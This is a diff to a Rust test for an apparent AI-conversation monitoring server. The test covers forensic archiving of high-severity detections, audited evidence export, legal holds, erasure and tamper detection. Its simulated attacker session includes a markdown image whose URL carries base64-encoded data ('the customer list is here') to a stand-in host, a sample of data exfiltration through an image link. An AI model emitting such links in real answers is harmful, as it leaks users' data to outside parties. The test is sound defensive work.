@@ -149,7 +149,7 @@ fn the_archive_lives_in_a_bucket_that_is_write_once() {
 fn readable(moto: &Moto, bucket: &str, data: &Path) -> String {
     let dir = server::DataDir::existing(data).unwrap();
     let keyring = server::read_keyring(&dir, &server::RootKeyFile::new(Some(&root_key())).unwrap()).unwrap();
-    let place = server::Config::read(&data.with_file_name("watchkeeper.toml")).unwrap().place();
+    let place = server::Config::read(&data.with_file_name("watchkeeper.toml")).unwrap().places().evidence;
     let view = server::lifecycle::cold::archive_of(&dir, Some(&keyring), Some(&place)).unwrap().unwrap();
     let live: Vec<String> = view
         .manifest()
@@ -365,4 +365,119 @@ fn an_hour_of_a_day_that_left_the_hot_store_comes_back() {
     server.stop();
     let (code, text) = verify(&data);
     assert_eq!(code, 0, "{text}");
+}
+
+#[test]
+fn what_a_serious_detection_rests_on_is_copied_to_the_forensic_archive_with_its_session() {
+    let dir = tempfile::tempdir().unwrap();
+    let data = dir.path().join("data");
+    let config = format!(
+        "[archive.forensic]\nmin_severity = \"high\"\nurl = \"{}\"\n[[retention.class]]\nname = \"brief\"\nhot_days = 1\n",
+        dir.path().join("forensic-objects").display()
+    );
+    let server = Server::start_with(&data, &config);
+    let image = "Done. ![x](https://img.example.net/p.png?d=dGhlIGN1c3RvbWVyIGxpc3QgaXMgaGVyZQ)";
+    for (number, session, user, said, answer) in [
+        (0, "attacked", "mallory", "heron-azure-1 please", "heron-azure-2 it is"),
+        (1, "quiet", "bo", "crane-amber-1 please", "crane-amber-2 it is"),
+        (2, "attacked", "mallory", "heron-azure-3 and an image", image),
+    ] {
+        assert!(export(&server.otlp_http, &call(session, user, number, said, answer)));
+    }
+    let copied = |server: &Server| -> u64 {
+        server.settle();
+        let kept = json(&["retention", "show", "--segments", "--format", "json"], &data);
+        let forensic = kept.as_array().unwrap().iter().filter(|row| row["archive"] == "forensic");
+        forensic.inspect(|row| assert_eq!(row["class"], "forensic")).map(|row| row["records"].as_u64().unwrap()).sum()
+    };
+    let until = |server: &Server, wanted: u64| {
+        let began = Instant::now();
+        while copied(server) < wanted {
+            assert!(began.elapsed() < SOON, "{} of {wanted} copies", copied(server));
+            std::thread::sleep(Duration::from_millis(200));
+        }
+    };
+    // The call before, the call, and the detection; nobody else's.
+    let detected = |server: &Server, least: u64| {
+        let began = Instant::now();
+        loop {
+            server.settle();
+            let found = server.query("SELECT detection_id FROM detections WHERE severity IN ('high', 'critical')").len() as u64;
+            if found >= least {
+                return found;
+            }
+            assert!(began.elapsed() < SOON, "{found} of {least} detections");
+            std::thread::sleep(Duration::from_millis(100));
+        }
+    };
+    let detections = detected(&server, 1);
+    until(&server, 2 + detections);
+    assert_eq!(copied(&server), 2 + detections);
+    let show = |out: &str| {
+        let bundle = dir.path().join(out);
+        let arguments = ["evidence", "export", "--forensic", "0-1000", "--reason", "case 9", "--out", bundle.to_str().unwrap()];
+        let exported = run(&arguments, &data);
+        assert!(exported.status.success(), "{}", String::from_utf8_lossy(&exported.stderr));
+        let vkey = data.join("ledger/vkey");
+        let shown = watchkeeper().args(["evidence", "show"]).arg(&bundle).arg("--key").arg(vkey).output().unwrap();
+        assert_eq!(shown.status.code(), Some(0), "{}", String::from_utf8_lossy(&shown.stdout));
+        let files = dir.path().join(format!("{out}.d"));
+        fs::create_dir(&files).unwrap();
+        let tar = std::process::Command::new("tar").arg("-xzf").arg(&bundle).arg("-C").arg(&files).status().unwrap();
+        assert!(tar.success());
+        let grep = |text: &str| std::process::Command::new("grep").args(["-rq", text]).arg(&files).status().unwrap().success();
+        (grep("heron-azure-1"), grep("heron-azure-3"), grep("crane-amber-1"))
+    };
+    assert_eq!(show("before.tar.gz"), (true, true, false));
+    // Whoever reads it leaves a record of that.
+    assert_eq!(rows("SELECT name FROM admin_events WHERE name = 'evidence.export'", &data).len(), 1);
+    // Its keys are others than those of the archive of evidence.
+    assert!(!data.join("forensic/objects").exists() && dir.path().join("forensic-objects/segments").exists());
+    server.stop();
+    let verified = |server_config: bool| {
+        if server_config { verify_with(&data, &dir.path().join("watchkeeper.toml")) } else { verify(&data) }
+    };
+    for with_config in [false, true] {
+        let (code, text) = verified(with_config);
+        assert!(code == 0 && text.contains("forensic archive:"), "{text}");
+    }
+
+    // The session goes on after a restart: it is still followed, and what was copied is not copied again.
+    let server = Server::start_with(&data, &config);
+    assert!(export(
+        &server.otlp_http,
+        &call("attacked", "mallory", 3, "heron-azure-4 too", &image.replace("d=", "e=bW9yZSBvZiBpdCB"))
+    ));
+    let more = detected(&server, detections + 1);
+    until(&server, 3 + more);
+    assert_eq!(copied(&server), 3 + more);
+
+    // A hold covers copies, too; an erasure goes through them.
+    assert!(run(&["hold", "place", "case-9", "--reason", "letter", "--session", "attacked"], &data).status.success());
+    assert_eq!(run(&["erase", "--subject", "mallory"], &data).status.code(), Some(1));
+    assert!(run(&["hold", "release", "case-9"], &data).status.success());
+    let erased = run(&["erase", "--subject", "mallory"], &data);
+    assert!(erased.status.success(), "{}{}", String::from_utf8_lossy(&erased.stdout), String::from_utf8_lossy(&erased.stderr));
+    server.settle();
+    server.stop();
+    let (code, text) = verify(&data);
+    assert_eq!(code, 0, "{text}");
+    let server = Server::start_with(&data, &config);
+    server.settle();
+    let bundle = dir.path().join("after.tar.gz");
+    let arguments = ["evidence", "export", "--forensic", "0-1000", "--reason", "case 9", "--out", bundle.to_str().unwrap()];
+    let exported = run(&arguments, &data);
+    assert!(exported.status.success(), "{}", String::from_utf8_lossy(&exported.stderr));
+    let tar = std::process::Command::new("tar").arg("-xzOf").arg(&bundle).output().unwrap();
+    assert!(!String::from_utf8_lossy(&tar.stdout).contains("heron-azure"), "a copy outlived the erasure");
+    server.stop();
+
+    // A copy that was changed is found.
+    let object = fs::read_dir(dir.path().join("forensic-objects/segments")).unwrap().next().unwrap().unwrap().path();
+    fs::set_permissions(&object, fs::Permissions::from_mode(0o600)).unwrap();
+    let mut bytes = fs::read(&object).unwrap();
+    *bytes.last_mut().unwrap() ^= 1;
+    fs::write(&object, bytes).unwrap();
+    let (code, text) = verify(&data);
+    assert!(code == 1 && text.contains("TAMPERED: forensic"), "{code} {text}");
 }
